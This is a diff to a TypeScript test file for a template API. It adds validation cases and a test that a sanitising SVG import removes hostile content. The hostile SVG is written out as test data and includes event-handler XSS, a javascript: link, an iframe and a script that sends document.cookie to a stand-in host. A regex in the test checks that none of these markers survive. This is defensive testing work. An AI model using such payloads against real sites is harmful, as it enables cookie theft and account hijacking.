@@ -5,6 +5,7 @@ import { apiCall } from '#server/testing/api-call.ts';
 import { signInTestUser, type TestSession } from '#server/testing/auth.ts';
 import { setTestTier } from '#server/testing/tier.ts';
 import { startTestServer, type TestServer } from '#server/testing/test-server.ts';
+import { importSvg } from '#shared/templates/svg-import.ts';
 import { templateListSchema } from '#shared/templates/template-list.schema.ts';
 import {
   templateErrorDetailsSchema,
@@ -243,6 +244,8 @@ describe('the texts under the fields', () => {
       'Mindestens 1 Spiel erforderlich',
     ],
     [{ supportedGames: 4 }, 'supportedGames', 'TEMPLATE_GAMES_LIMIT', 'Maximal 3 Spiele erlaubt'],
+    [{ supportedGames: 1e6 }, 'supportedGames', 'TEMPLATE_GAMES_LIMIT', 'Maximal 3 Spiele erlaubt'],
+    [{ name: '\u202e\u0007' }, 'name', 'TEMPLATE_NAME_REQUIRED', 'Name ist erforderlich'],
   ])('%j: %s %s', async (overrides, field, code, message) => {
     const response = await create(anna, body(overrides));
     expect(response.status).toBe(400);
@@ -422,5 +425,25 @@ describe('hostile or oversized configs', () => {
     );
     const config = (await storedConfig(id)) as { elements: { id: string; content?: string }[] };
     expect(config.elements.find((e) => e.id === 'bidi')?.content).toBe('Heimspiel');
+  });
+
+  it('saves what the SVG import made of a hostile file, with nothing unsafe in it', async () => {
+    const hostile = `<svg onload="alert(1)" viewBox="0 0 1080 1350">
+      <script>fetch('https://evil.example/?c=' + document.cookie)</script>
+      <foreignObject width="10" height="10"><iframe src="https://evil.example"/></foreignObject>
+      <a href="javascript:alert(2)"><text x="100" y="100" onclick="alert(3)">Tickets</text></a>
+      <image href="https://evil.example/pixel.png" width="10" height="10"/>
+      <rect x="10" y="10" width="50" height="50" style="fill:url(https://evil.example/x.svg#p)"/>
+    </svg>`;
+    await clearTemplates(anna);
+    const result = importSvg({ text: hostile, name: 'hostile.svg' });
+    if (!result.ok) throw new Error(result.code);
+    const id = await createdId(
+      anna,
+      body({ svgConfig: { elements: result.elements, backgroundColor: result.backgroundColor } }),
+    );
+    const saved = JSON.stringify(await storedConfig(id));
+    expect(saved).toContain('Tickets');
+    expect(saved).not.toMatch(/script|javascript|onload|onclick|iframe|evil|url\(/i);
   });
 });
